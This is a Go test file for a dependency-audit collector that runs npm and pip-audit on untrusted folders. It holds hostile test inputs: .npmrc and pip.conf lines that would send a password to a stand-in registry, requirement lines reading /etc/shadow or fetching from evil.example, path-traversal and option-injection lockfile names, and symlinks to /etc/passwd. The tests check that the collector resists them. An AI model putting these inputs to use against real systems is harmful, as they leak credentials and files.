package packages_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/ai-micro-service/upkeep/collectors"
	"github.com/ai-micro-service/upkeep/collectors/packages"
	"github.com/ai-micro-service/upkeep/internal/platform/target"
	"github.com/ai-micro-service/upkeep/internal/testbed/sandbox"
)

// imitation is a program that does what npm and pip-audit do with a folder that is not to be
// trusted: it expands variables of .npmrc and pip.conf where it works and where the list is, runs what the
// list names, and notes its environment.
const imitation = `#!/bin/sh
env > "$NOTES/environment"
id -u > "$NOTES/user"
printf '%s\n' "$@" > "$NOTES/arguments"
list=$PWD
for a in "$@"; do
  case $a in --requirement=*) list=$(dirname "${a#--requirement=}"); cp "${a#--requirement=}" "$NOTES/list";; esac
done
[ -f package-lock.json ] && cp package-lock.json "$NOTES/list"
for f in "$PWD/.npmrc" "$list/.npmrc" "$HOME/.npmrc" "$list/pip.conf" "$HOME/.config/pip/pip.conf"; do
  [ -f "$f" ] && eval "echo \"$(cat "$f")\"" >> "$NOTES/leaked"
done
if grep -q 'git+file' "$NOTES/list"; then sh "$FOLDER/prepare.sh"; fi
case $1 in audit) echo '{"vulnerabilities":{"a":{"severity":"high","fixAvailable":true}}}';;
*) echo '{"dependencies":[{"name":"a","vulns":[{"fix_versions":["2"]}]}]}';; esac
exit 1
`

// install puts an imitation of both programs first into PATH. A child gets nothing of our
// environment, so the paths are written into it.
func install(t *testing.T, folder string) (notes string) {
	t.Helper()
	notes = t.TempDir()
	bin := t.TempDir()
	for dir := notes; dir != os.TempDir() && dir != "/"; dir = filepath.Dir(dir) { // for another user too
		if err := os.Chmod(dir, 0o777); err != nil {
			t.Fatal(err)
		}
	}
	for dir := bin; dir != os.TempDir() && dir != "/"; dir = filepath.Dir(dir) {
		if err := os.Chmod(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	text := strings.NewReplacer("$NOTES", notes, "$FOLDER", folder).Replace(imitation)
	for _, name := range []string{"npm", "pip-audit"} {
		if err := sandbox.WriteProgram(filepath.Join(bin, name), text, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("PATH", bin+":"+os.Getenv("PATH"))
	return notes
}

func write(t *testing.T, folder string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(folder, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func audit(t *testing.T, p target.Packages) (string, error) {
	t.Helper()
	p.Name = "s"
	c := packages.Audit(&p)
	w := collectors.NewWriter(c)
	err := c.Collect(t.Context(), w)
	return string(w.Text()), err
}

func read(path string) string {
	text, _ := os.ReadFile(path) // "" where it is not there
	return string(text)
}

// A service's folder has configuration that sends passwords away and a package that runs a
// script: the audit sees neither.
func TestFolderOfAStranger(t *testing.T) {
	const secret = "S3cretPgPw"
	t.Setenv("UPKEEP_PG_PW", secret)
	leak := "registry=http://127.0.0.1:1/${UPKEEP_PG_PW}/"
	for kind, list := range map[string]map[string]string{
		"npm": {"package-lock.json": `{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"git+file:///x"}},` +
			`"node_modules/a":{"version":"1.0.0","resolved":"git+file:///x#1","hasInstallScript":true}}}`},
		"pip": {"requirements.txt": "--index-url http://127.0.0.1:1/${UPKEEP_PG_PW}/\na==1.0 \\\n  --hash=sha256:00 \\\n" +
			"  --hash=sha256:01\nb[x, y]==2.0 ; python_version < '3.8' # why\n\n"},
	} {
		t.Run(kind, func(t *testing.T) {
			folder := t.TempDir()
			write(t, folder, list)
			write(t, folder, map[string]string{".npmrc": leak, "pip.conf": leak,
				"prepare.sh": "touch " + filepath.Join(folder, "was-run")})
			notes := install(t, folder)
			got, err := audit(t, target.Packages{Kind: kind, Path: folder})
			if err != nil || !strings.Contains(got, `fixable{server="s"} 1`) {
				t.Errorf("%v\n%s", err, got)
			}
			for _, note := range []string{"environment", "arguments", "list", "leaked"} {
				if text := read(filepath.Join(notes, note)); strings.Contains(text, secret) ||
					strings.Contains(text, "UPKEEP_PG_PW") {
					t.Errorf("%s:\n%s", note, text)
				}
			}
			if text := read(filepath.Join(notes, "leaked")); text != "" {
				t.Errorf("it has read configuration of the folder: %s", text)
			}
			if _, err := os.Stat(filepath.Join(folder, "was-run")); err == nil {
				t.Error("a script of the folder was run")
			}
			if list := read(filepath.Join(notes, "list")); !strings.Contains(list, "1.0") ||
				strings.Contains(list, "://") || strings.Contains(list, "index-url") {
				t.Errorf("the list is\n%s", list)
			}
		})
	}
}

// As root the audit runs as who owns the folder.
func TestFoldersOwner(t *testing.T) {
	if os.Geteuid() != 0 {
		return // it cannot be another
	}
	const nobody = 65534
	folder := t.TempDir()
	write(t, folder, map[string]string{"requirements.txt": "a==1.0\n"})
	if err := os.Chown(folder, nobody, nobody); err != nil {
		t.Fatal(err)
	}
	notes := install(t, folder)
	if _, err := audit(t, target.Packages{Kind: "pip", Path: folder}); err != nil {
		t.Fatal(err)
	}
	if is := strings.TrimSpace(read(filepath.Join(notes, "user"))); is != "65534" {
		t.Errorf("it ran as user %s", is)
	}
}

// What is no list of names and versions is an error, and never a count of none. Nothing is
// waited for, and nothing is read by a link.
func TestListsOfAStranger(t *testing.T) {
	lock := func(packages string) string { return `{"lockfileVersion":3,"packages":` + packages + `}` }
	for name, tc := range map[string]struct{ kind, text, want string }{
		"another file": {"pip", "-r /etc/shadow\n", "requirement 1 is not name==version"},
		"a constraint": {"pip", "a==1\n-c other.txt\n", "requirement 2 is not"},
		"a URL":        {"pip", "a @ https://evil.example/a.zip\n", "is not name==version"},
		"a folder":     {"pip", "-e .\n", "is not name==version"},
		"no version":   {"pip", "a>=1\n", "is not name==version"},
		"an option":    {"pip", "--config-settings=x=y a==1\n", "is not name==version"},
		"an old lock":  {"npm", `{"lockfileVersion":1,"dependencies":{}}`, "renew it with npm 7"},
		"no JSON":      {"npm", "root:x:0:0", "package-lock.json"},
		"a URL as a name": {"npm",
			lock(`{"node_modules/a":{"name":"git+https://evil.example/a.git","version":"1.0.0"}}`), "is no name"},
		"a path outside": {"npm", lock(`{"../../etc":{"version":"1.0.0"}}`), "is no name"},
		"a need by URL":  {"npm", lock(`{"":{"dependencies":{"https://evil.example/a.tgz":"1"}}}`), "which is no name"},
		"an option's":    {"npm", lock(`{"node_modules/--x y":{"version":"1.0.0"}}`), "is no name"},
	} {
		folder := t.TempDir()
		file := map[string]string{"pip": "requirements.txt", "npm": "package-lock.json"}[tc.kind]
		write(t, folder, map[string]string{file: tc.text})
		notes := install(t, folder)
		if _, err := audit(t, target.Packages{Kind: tc.kind, Path: folder}); err == nil ||
			!strings.Contains(err.Error(), tc.want) || strings.Contains(err.Error(), "root:x") {
			t.Errorf("%s: %v", name, err)
		}
		if read(filepath.Join(notes, "arguments")) != "" {
			t.Errorf("%s: the program was started", name)
		}
		for what, make := range map[string]func(string) error{
			"a link": func(path string) error { return os.Symlink("/etc/passwd", path) },
			"a pipe": func(path string) error { return syscall.Mkfifo(path, 0o666) },
		} {
			path := filepath.Join(folder, file)
			if err := os.Remove(path); err != nil {
				t.Fatal(err)
			}
			if err := make(path); err != nil {
				t.Fatal(err)
			}
			if _, err := audit(t, target.Packages{Kind: tc.kind, Path: folder}); err == nil {
				t.Errorf("%s of %s is read", what, tc.kind)
			}
		}
	}
	pipe := filepath.Join(t.TempDir(), "report.json")
	if err := syscall.Mkfifo(pipe, 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := audit(t, target.Packages{Kind: "npm", Path: pipe}); err == nil {
		t.Error("a pipe is a report")
	}
}

// Npm itself asks the registry of the configuration for what is installed, and no other place.
func TestNPM(t *testing.T) {
	if _, err := exec.LookPath("npm"); err != nil {
		return // the imitation of the other tests does what npm does
	}
	t.Setenv("UPKEEP_PG_PW", "S3cretPgPw")
	var mu sync.Mutex
	var asked []string
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text, _ := io.ReadAll(r.Body) // gzip
		mu.Lock()
		asked = append(asked, r.Method+" "+r.URL.Path)
		mu.Unlock()
		_ = text
		if r.Method == http.MethodGet {
			_ = json.NewEncoder(w).Encode(map[string]any{"name": "evil-dep", "dist-tags": map[string]string{"latest": "2.0.0"},
				"versions": map[string]any{"1.0.0": map[string]any{"name": "evil-dep", "version": "1.0.0"},
					"2.0.0": map[string]any{"name": "evil-dep", "version": "2.0.0"}}})
			return
		}
		_, _ = io.WriteString(w, `{"evil-dep":[{"id":1,"url":"https://x.example/1","title":"t","severity":"high",`+
			`"vulnerable_versions":"<2.0.0","cwe":[],"cvss":{"score":7}}]}`)
	}))
	defer registry.Close()
	var leaked []string
	thief := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		leaked = append(leaked, r.URL.Path)
	}))
	defer thief.Close()
	folder := t.TempDir()
	write(t, folder, map[string]string{
		".npmrc":       "registry=" + thief.URL + "/leak/${UPKEEP_PG_PW}/\n",
		"package.json": `{"name":"svc","version":"1.0.0","dependencies":{"evil-dep":"1.0.0"}}`,
		"package-lock.json": `{"name":"svc","lockfileVersion":3,"packages":{"":{"dependencies":{"evil-dep":"1.0.0"}},` +
			`"node_modules/evil-dep":{"version":"1.0.0","resolved":"` + thief.URL + `/x.tgz"}}}`,
	})
	got, err := audit(t, target.Packages{Kind: "npm", Path: folder, Registry: registry.URL + "/"})
	if err != nil || !strings.Contains(got, `level="high"} 1`) || !strings.Contains(got, `fixable{server="s"} 1`) {
		t.Errorf("%v\n%s", err, got)
	}
	if len(leaked) > 0 || len(asked) == 0 {
		t.Errorf("asked %v, and another %v", asked, leaked)
	}
}
